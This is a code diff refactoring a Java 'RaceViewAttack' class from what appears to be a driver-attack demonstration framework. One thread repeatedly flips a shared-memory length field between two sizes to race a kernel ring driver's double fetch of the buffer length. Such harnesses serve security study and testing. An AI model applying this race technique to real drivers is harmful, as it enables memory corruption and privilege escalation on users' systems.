@@ -5,8 +5,6 @@ import ntsection.drivers.demo.Attack;
 import ntsection.drivers.demo.Stage;
 import ntsection.drivers.ring.RingClient;
 
-import java.util.List;
-
 import static ntsection.drivers.ring.SharedViewIoctl.DATA_SIZE;
 import static ntsection.drivers.ring.SharedViewIoctl.SLOT_LENGTH;
 
@@ -37,28 +35,16 @@ public final class RaceViewAttack implements Attack {
 
     @Override
     public void stage(Stage stage) {
-        long[] length = new long[1];
         long ready = stage.event();
-        stage.attack(user -> {
-            // Set in any case: a client whose view faults under it must not leave the other thread waiting.
-            try {
-                RingClient client = new RingClient(user);
-                if (client.open().isSuccess() && client.connect().isSuccess()) {
-                    client.fill(List.of(PAYLOAD));
-                    length[0] = client.slot(0) + SLOT_LENGTH;
-                    user.nt().ntSetEvent(ready, null);
-                    for (int i = 0; i < SUBMITS; i++) client.submit();
-                }
-            } finally {
-                user.nt().ntSetEvent(ready, null);
-            }
-        });
+        RingClient[] client = new RingClient[1];
+        stage.attack(RingRace.client(ready, PAYLOAD, SUBMITS, client));
         stage.attack(user -> {
             user.waitFor(ready);
-            if (length[0] == 0) return;
+            if (client[0] == null) return;
+            long length = client[0].slot(0) + SLOT_LENGTH;
             for (int i = 0; i < FLIPS; i++) {
-                user.writeInt(length[0], DATA_SIZE);
-                user.writeInt(length[0], PAYLOAD.length);
+                user.writeInt(length, DATA_SIZE);
+                user.writeInt(length, PAYLOAD.length);
             }
         });
     }
